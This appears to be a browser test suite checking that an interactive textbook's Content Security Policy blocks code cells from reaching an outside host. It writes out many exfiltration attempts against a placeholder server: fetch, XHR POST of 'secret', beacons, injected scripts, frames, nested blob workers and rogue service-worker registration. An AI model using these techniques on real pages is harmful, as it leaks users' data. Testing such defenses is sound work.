/** @file Cells compute and do not phone out: whatever they try, on the page, in the worker and in workers of their own, nobody else hears of it. */
import {readdirSync, readFileSync} from 'node:fs'
import {createHash} from 'node:crypto'
import {join} from 'node:path'
import type {Page} from 'playwright-core'
import {afterAll, afterEach, beforeAll, describe, expect, it} from 'vitest'
import {inlineScripts} from '../../src/site/content-security-policy.ts'
import {htmlTags} from '../../src/site/html-tags.ts'
import {workerParts} from '../../src/site/worker-parts.ts'
import {ask, button, cellOf, ended, eventually, openBook, openEditor, outputOf, problemOf, programsOf, reach, shorten, sourceOf, type Book} from './book.ts'
import {startStranger, type Stranger} from './stranger.ts'

const dist = join(import.meta.dirname, '../../dist')
const files = readdirSync(dist, {recursive: true, encoding: 'utf8'}).map(file => file.replaceAll('\\', '/'))

let book: Book
let stranger: Stranger

beforeAll(async () => {
  stranger = await startStranger()
  book = await openBook()
})
afterAll(async () => {
  await book?.close()
  await stranger?.close()
})

/** Cells that no other cell reads. */
const realms = [['on the page', 'gradient-check'], ['in the worker', 'autodiff']] as const

describe('a page without a policy', () => {
  it('would reach the stranger: so its silence means something', async () => {
    const page = await book.open('favicon.svg')
    await page.evaluate(url => fetch(`${url}/control`), stranger.url)
    expect(stranger.heard).toContain('GET /control HTTP/1.1')
    await page.context().close()
  })

  it('gets no service from the book’s worker scripts, started from their own address', async () => {
    const page = await book.open('favicon.svg')
    const scripts = files.filter(file => /^_astro\/[\w-]*worker-[^/]*\.js$/.test(file)).map(file => book.url + file)
    expect(scripts.length).toBeGreaterThanOrEqual(3) // those of cells, of replicas and of the bench page
    for (const script of scripts) {
      expect(await page.evaluate(script => new Promise(tell => {
        const worker = new Worker(script, {type: 'module'})
        worker.onerror = ({message}) => tell(message)
        worker.onmessage = () => tell('served')
      }), script)).toContain('serves only where BlobWorker starts it')
    }
    await page.context().close()
  })
})

describe('a cell that asks another host', () => {
  let page: Page
  let before: number
  beforeAll(async () => {
    page = await book.open('en/06-losses/')
    before = stranger.heard.length
  })
  afterEach(async () => {
    expect(stranger.heard.slice(before)).toEqual([])
    await ask(page, 'reset')
  })
  afterAll(() => page?.context().close())

  /** Runs a text that has the stranger's address for URL, and the book's own for BOOK. Returns what the cell showed, or that it failed. */
  async function attempt(cell: string, source: string, on = page): Promise<string> {
    const text = source.replaceAll('URL_', stranger.url).replaceAll('BOOK_', book.url)
    const {phase, problem} = await ended(on, cell, async () => {
      await ask(on, 'edit', cell, text)
      await ask(on, 'run', cell)
    })
    return phase === 'done' ? outputOf(on, cell) : `${phase}: ${problem?.code}`
  }

  const refused = (path: string) => expect.stringContaining(`This book lets nothing out: \`${stranger.url}/${path}\` was not asked.`)

  describe.each(realms)('%s', (_, cell) => {
    it('by fetch fails, and says what happened, where, why, and what to do', async () => {
      expect(await attempt(cell, "const a = 1\n\nconst reply = await fetch('URL_/secret?of=mine')\ndisplay(reply.status)")).toBe('error: refused-request')
      const problem = await problemOf(page, cell)
      expect(problem).toEqual(refused('secret'))
      expect(problem).toMatch(/line 3, column 21[^]*stays on this machine[^]*Put the data into a cell, let the reader choose a file/)
    })

    it('by fetch inside a function of another cell names that cell', async () => {
      await ask(page, 'edit', 'mse', "async function mse(...all: unknown[]): Promise<number> {\n  await fetch('URL_/from-mse')\n  return 0\n}".replace('URL_', stranger.url))
      expect(await attempt(cell, 'const one = 1\n\nconst result = await mse([1], [2])')).toBe('error: refused-request')
      expect(await problemOf(page, cell)).toMatch(/from-mse[^]*in cell mse, line 2, column \d+/)
    })

    it('by fetch that nobody awaits is told too', async () => {
      await attempt(cell, "const reply = fetch('URL_/unawaited').then(reply => reply.status)\nvoid reply")
      await eventually(() => problemOf(page, cell)).toEqual(refused('unawaited'))
    })

    it('by import() fails and says so', async () => {
      expect(await attempt(cell, "const module = await import('URL_/module.js')")).toBe('error: refused-request')
      expect(await problemOf(page, cell)).toEqual(refused('module.js'))
    })

    it.each([
      ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.onload = x.onerror = () => tell(`status ${x.status}`); x.open("POST", "URL_/xhr"); x.send("secret")', 'status 0'],
      ['EventSource', 'const s = new EventSource("URL_/events"); s.onerror = () => { s.close(); tell("error") }', 'error'],
      ['WebSocket', 'const s = new WebSocket("URL_/socket".replace("http", "ws")); s.onerror = () => tell("error")', 'error'],
    ])('by %s hears nothing, and is told why', async (_, source, shown) => {
      expect(await attempt(cell, `const told = await new Promise<string>(tell => { ${source} })\ndisplay(told)`)).toBe(shown)
      await eventually(() => problemOf(page, cell)).toContain('This book lets nothing out')
    })

    it('from a worker of its own, started from a blob, fails', async () => {
      expect(await attempt(cell, `const code = "fetch('URL_/nested').then(() => postMessage('heard'), error => postMessage('refused ' + error.name))"
        const told = await new Promise<string>(tell => { new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({data}) => tell(data) })
        display(told)`)).toBe('refused TypeError')
    })

    it('from a worker in a worker of its own fails', async () => {
      expect(await attempt(cell, `const inner = "fetch('URL_/nested-twice').then(() => postMessage('heard'), error => postMessage('refused ' + error.name))"
        const outer = 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + ']))).onmessage = ({data}) => postMessage(data)'
        const told = await new Promise<string>(tell => { new Worker(URL.createObjectURL(new Blob([outer]))).onmessage = ({data}) => tell(data) })
        display(told)`)).toBe('refused TypeError')
    })

    it('by importScripts in a worker of its own fails', async () => {
      expect(await attempt(cell, `const code = "try { importScripts('URL_/script'); postMessage('heard') } catch (error) { postMessage('refused ' + error.name) }"
        const told = await new Promise<string>(tell => { new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({data}) => tell(data) })
        display(told)`)).toBe('refused NetworkError')
    })

    it('from a worker with the code in a data: address is not even started', async () => {
      expect(await attempt(cell, `const code = 'data:text/javascript,' + encodeURIComponent("fetch('URL_/data')")
        const told = await new Promise<string>(tell => { new Worker(code).onerror = () => tell('not started') })
        display(told)`)).toBe('not started')
      await eventually(() => problemOf(page, cell)).toMatch(/A worker that starts from `data` could let something out[^]*new Blob/)
    })

    it.each(['_astro/', 'pagefind/'])('finds no script of the book under %s to start as a worker and have it ask', async folder => {
      const scripts = files.filter(file => file.startsWith(folder) && file.endsWith('.js')).map(file => book.url + file)
      expect(scripts.length).toBeGreaterThan(1)
      expect(await attempt(cell, `const started: string[] = []
        await Promise.all((${JSON.stringify(scripts)}).flatMap(script => (['module', 'classic'] as const).map(type => new Promise<void>(tell => {
          const worker = new Worker(script, {type})
          worker.onerror = () => tell()
          worker.onmessage = () => { started.push(script); tell() }
          for (const message of ['URL_/asked', {url: 'URL_/asked'}, {basePath: 'URL_/', type: 'init'}]) worker.postMessage(message)
          setTimeout(tell, 5000) // what only declares things says nothing
        }))))
        display(started.length)`)).toBe('0')
    })
  })

  it.each([
    ['a beacon', "navigator.sendBeacon('URL_/beacon', 'secret')"],
    ['an image', "new Image().src = 'URL_/image'"],
    ['a script', "document.head.append(Object.assign(document.createElement('script'), {src: 'URL_/script'}))"],
    ['a style', "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'URL_/style'}))"],
    ['a picture in a style', "document.body.append(Object.assign(document.createElement('p'), {style: 'background: url(URL_/background)', textContent: 'x'}))"],
    ['a frame', "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL_/frame'}))"],
    ['a form', "{ const form = Object.assign(document.createElement('form'), {action: 'URL_/form', target: '_blank'}); document.body.append(form); form.submit() }"],
    ['a prefetch', "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: 'URL_/prefetch'}))"],
    ['a ping', "{ const link = Object.assign(document.createElement('a'), {href: '#x', ping: 'URL_/ping'}); document.body.append(link); link.click() }"],
  ])('by %s does not reach it, and is told why', async (_, source) => {
    await attempt('gradient-check', `const one = 1\n${source}`)
    await eventually(() => problemOf(page, 'gradient-check')).toContain('This book lets nothing out')
  })

  it('finds no window without a policy in a frame with a file of the book', async () => {
    expect(await attempt('gradient-check', `const frame = document.createElement('iframe')
      frame.src = 'BOOK_favicon.svg'
      document.body.append(frame)
      await new Promise(resolve => setTimeout(resolve, 300))
      const told = await (async () => frame.contentWindow!.fetch('URL_/frame'))().then(() => 'heard', () => 'refused')
      display(told)`)).toBe('refused')
  })

  describe('with a service worker', () => {
    let served: Page
    beforeAll(async () => { served = await book.open('en/06-losses/', {serviceWorkers: 'allow'}) })
    afterEach(() => ask(served, 'reset'))
    afterAll(() => served?.context().close())

    it('cannot put one of its own, or any other script, between the book and its readers', async () => {
      const [parts, scripts] = [true, false].map(part => files.filter(file => file.endsWith('.js') && file !== 'sw.js' && file.startsWith(workerParts) === part).map(file => book.url + file))
      expect(scripts!.length).toBeGreaterThan(100)
      expect(parts!.length).toBeGreaterThan(5)
      expect(await attempt('gradient-check', `const scripts: string[] = ${JSON.stringify(parts)}
        const told = await Promise.all(scripts.map(script => navigator.serviceWorker.register(script, {scope: '/en/'}).then(() => script, error => error.name)))
        display([...new Set(told)].join())`, served)).toBe('SecurityError')
      expect(await attempt('gradient-check', `const scripts: string[] = ${JSON.stringify([...scripts!, 'BOOK_x/sw.js', 'BOOK_sw.js/x.js'])}
        const told = await Promise.all(scripts.map(script => navigator.serviceWorker.register(script).then(() => script, error => error.name)))
        display([...new Set(told)].join())`, served)).toBe('SecurityError')
      expect(await attempt('gradient-check', `const scripts = [URL.createObjectURL(new Blob(['1'], {type: 'text/javascript'})), 'data:text/javascript,1', 'URL_/sw.js']
        const told = await Promise.all(scripts.map(script => navigator.serviceWorker.register(script).then(() => script, () => 'refused')))
        display([...new Set(told)].join())`, served)).toBe('refused')
    })

    it('registers at most the book’s own, with whatever words, and that does nothing else', async () => {
      expect(await attempt('gradient-check', `const registered = await navigator.serviceWorker.register('BOOK_sw.js?import=URL_/script&evaluate=1', {scope: '/en/06-losses/'})
        const worker = registered.installing ?? registered.waiting ?? registered.active!
        for (const message of ['importScripts("URL_/message")', {ask: 'constructor'}, {ask: 'missing', url: 'URL_/message'}, {ask: '__proto__'}, null]) worker.postMessage(message)
        await new Promise(resolve => setTimeout(resolve, 500))
        display(new URL(worker.scriptURL).pathname)
        await registered.unregister()`, served)).toBe('/sw.js')
    })

    describe.each(realms)('%s', (_, cell) => {
      it('starts the one script that the policy names as another kind of worker, and is not served', async () => {
        expect(await attempt(cell, `const told = await Promise.all((['module', 'classic'] as const).map(type => new Promise<string>(tell => {
            const worker = new Worker('BOOK_sw.js', {type})
            worker.onerror = () => tell('refused')
            worker.onmessage = () => tell('served')
            worker.postMessage({ask: 'missing'})
          })))
          display(told.join())`, served)).toBe('refused,refused')
      })
    })

    it('starts it as a shared worker, and is not served', async () => {
      expect(await attempt('gradient-check', `const told = await new Promise<string>(tell => {
          const worker = new SharedWorker('BOOK_sw.js')
          setTimeout(() => tell('silent'), 1000)
          worker.port.onmessage = () => tell('served')
          worker.port.start()
          worker.port.postMessage({ask: 'missing'})
        })
        display(told)`, served)).toBe('silent')
    })
  })

  it('says it in Chinese too', async () => {
    const chinese = await book.open('zh/06-losses/')
    await ask(chinese, 'edit', 'gradient-check', `const reply = await fetch('${stranger.url}/zh')`)
    await ask(chinese, 'run', 'gradient-check')
    expect(await problemOf(chinese, 'gradient-check')).toContain(`这本书不往外传任何东西：没有去请求 \`${stranger.url}/zh\`。`)
    await chinese.context().close()
  })
})

describe.each(files.filter(file => file.endsWith('.html')))('the built page %s', file => {
  const html = readFileSync(join(dist, file), 'utf8')

  it('has its policy before anything that loads or runs, and every script that stands in it is named there', () => {
    const tags = htmlTags(html)
    const at = tags.findIndex(({attributes}) => attributes['http-equiv'] === 'Content-Security-Policy')
    expect(tags.slice(0, at).map(({name}) => name).filter(name => !['html', 'head', 'meta'].includes(name))).toEqual([])
    const policy = tags[at]!.attributes['content']!
    for (const script of inlineScripts(html)) expect(policy).toContain(createHash('sha256').update(script).digest('base64'))
    expect(policy).toContain("; worker-src blob: 'self'; ")
    expect(policy).not.toMatch(/\*|https?:(?!\/\/cdn\.jsdelivr\.net\/npm\/)/)
  })

  it('has no handler in an attribute', () => {
    expect(htmlTags(html).flatMap(({name, attributes}) => Object.keys(attributes).filter(attribute => attribute.startsWith('on')).map(attribute => `${name} ${attribute}`))).toEqual([])
  })
})

describe('under its policy the book works, and the browser refuses nothing', () => {
  /** What the browser complains of in a page from now on. */
  function complaints(page: Page): string[] {
    const heard: string[] = []
    page.on('console', message => { if (message.type() === 'error' || /Content.Security.Policy/i.test(message.text())) heard.push(message.text()) })
    page.on('pageerror', error => heard.push(String(error)))
    return heard
  }

  it.each(files.filter(file => file.endsWith('.html')))('%s opens', async file => {
    const page = await book.open('favicon.svg')
    const heard = complaints(page)
    await page.goto(book.url + file, {waitUntil: 'networkidle'})
    expect(heard).toEqual([])
    await page.context().close()
  })

  it('chapter 11: every cell, a training shared by two workers, the editor, the search, and on to another chapter', async () => {
    const page = await book.open('en/11-train/')
    const heard = complaints(page)
    await shorten(page)
    for (const name of ['losses-of', 'resumed']) await ask(page, 'reset', name) // trainings whose lengths belong together
    await ask(page, 'edit', 'training', (await sourceOf(page, 'training')).replace('steps: 300', 'steps: 2, workers: 2').replace('sampleEvery: 50', 'sampleEvery: 1'))
    const workers: string[] = []
    page.on('worker', worker => workers.push(worker.url().replace(/^.*#/, '')))
    await button(page, 'training', 'Run').click()
    await reach(page, 'training', 'done', 120_000)
    for (const {name} of await programsOf(page)) expect((await ask(page, 'run', name)).phase, name).toMatch(/done|streaming/)
    expect(workers.filter(name => name.startsWith('replica-worker-')).length).toBeGreaterThan(0)
    await openEditor(page, 'tokens')
    await page.keyboard.press('Escape')
    await page.keyboard.press('ControlOrMeta+k')
    await page.locator('dialog input').fill('loss')
    await page.locator('.search-results > li').first().waitFor()
    await page.locator('.search-results a').first().click()
    await page.waitForLoadState('networkidle')
    expect(heard).toEqual([])
    await page.context().close()
  })

  it('Moby Dick is read', async () => {
    const page = await book.open('en/11-train/')
    const heard = complaints(page)
    await ask(page, 'edit', 'text', `import {mobyDick} from 'lab/data'\nconst whale = await mobyDick()\ndisplay(whale.slice(0, 200))`)
    await ask(page, 'run', 'text')
    expect(await outputOf(page, 'text')).toMatch(/Ishmael|Moby|whale/i)
    expect(heard).toEqual([])
    await page.context().close()
  })

  it('chapter 6: every cell', async () => {
    const page = await book.open('zh/06-losses/')
    const heard = complaints(page)
    await shorten(page)
    for (const {name} of await programsOf(page)) expect((await ask(page, 'run', name)).phase, name).toMatch(/done|streaming/)
    expect(heard).toEqual([])
    await page.context().close()
  })

  it('the bench page measures', async () => {
    const page = await book.open('en/bench/')
    const heard = complaints(page)
    await page.getByRole('button', {name: 'Measure'}).click()
    await eventually(() => page.getByRole('status').innerText(), 90_000).toMatch(/^Done\./)
    expect(heard).toEqual([])
    await page.context().close()
  })

  it('downloads are offered from blobs', async () => {
    const page = await book.open('en/06-losses/')
    const heard = complaints(page)
    await ask(page, 'edit', 'gradient-check', "const link = Object.assign(document.createElement('a'), {href: URL.createObjectURL(new Blob(['{}'])), download: 'data.json', textContent: 'save'})\ndisplay(link)")
    await ask(page, 'run', 'gradient-check')
    const download = page.waitForEvent('download')
    await cellOf(page, 'gradient-check').getByRole('link', {name: 'save'}).click()
    expect((await download).suggestedFilename()).toBe('data.json')
    expect(heard).toEqual([])
    await page.context().close()
  })
})
